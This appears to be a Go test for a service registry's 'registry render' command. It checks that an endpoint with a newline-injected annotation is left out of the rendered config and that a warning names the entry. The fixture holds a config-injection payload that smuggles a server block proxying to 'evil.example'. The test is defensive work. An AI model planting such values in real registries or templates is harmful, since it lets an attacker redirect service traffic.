package main

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/jetstream"

	"github.com/switchboard-mesh/switchboard/endpoint"
	"github.com/switchboard-mesh/switchboard/registry"
)

// TestRegistryRenderLeavesOutInjectedAnnotations: an entry another writer stored with
// a newline in an annotation is left out of what `registry render` prints, with a
// warning naming it, and the rest is rendered.
func TestRegistryRenderLeavesOutInjectedAnnotations(t *testing.T) {
	f := startNATS(t)
	f.apply(t, registry.Register(endpoint.Endpoint{Cluster: "prod", Service: "web", Protocol: "http", Address: "10.0.0.1", Port: 80,
		Priority: 1, Annotations: map[string]string{"team": "web"}}))
	evil := endpoint.Key{Cluster: "prod", Service: "web", Protocol: "http", Address: "10.0.0.5", Port: 80}
	f.publishForeign(t, "agenttest.reg.prod.http.web.10_0_0_5."+evil.InstanceID(),
		`{"cluster":"prod","service":"web","protocol":"http","address":"10.0.0.5","port":80,"priority":1,"annotations":{"team":"edge\n}\nserver {\n  proxy_pass http://evil.example;\n}"}}`)

	dir := t.TempDir()
	tmpl := writeFile(t, dir, "up.tmpl", "{{range registrations \"prod\" \"http\" \"web\" \"\"}}server {{hostport .Address .Port}}; # {{.Annotations.team}}\n{{end}}")
	const want = "server 10.0.0.1:80; # web\n"
	out, errOut, code := run(t, append([]string{"registry", "render", tmpl}, f.flags...)...)
	if code != 0 || out != want {
		t.Fatalf("registry render: exit %d, stdout %q (want %q), stderr %s", code, out, want, errOut)
	}
	for _, s := range []string{"endpoint left out", "prod/web/http/10.0.0.5:80", "annotations[team]"} {
		if !strings.Contains(errOut, s) {
			t.Errorf("stderr lacks %q:\n%s", s, errOut)
		}
	}
	dest := filepath.Join(dir, "up.conf")
	if _, errOut, code = run(t, append([]string{"registry", "render", tmpl, "--out", dest}, f.flags...)...); code != 0 || !strings.Contains(errOut, "endpoint left out") {
		t.Fatalf("registry render --out: exit %d, stderr %s", code, errOut)
	}
	if b, _ := os.ReadFile(dest); string(b) != want {
		t.Fatalf("--out wrote %q, want %q", b, want)
	}
}

// publishForeign stores payload on subject as another JetStream writer would: past
// the registry's own write rules.
func (f natsFixture) publishForeign(t *testing.T, subject, payload string) {
	t.Helper()
	url := ""
	for i, fl := range f.flags {
		if fl == "--nats-url" {
			url = f.flags[i+1]
		}
	}
	nc, err := nats.Connect(url)
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	js, err := jetstream.New(nc)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if _, err := js.Publish(ctx, subject, []byte(payload)); err != nil {
		t.Fatal(err)
	}
}
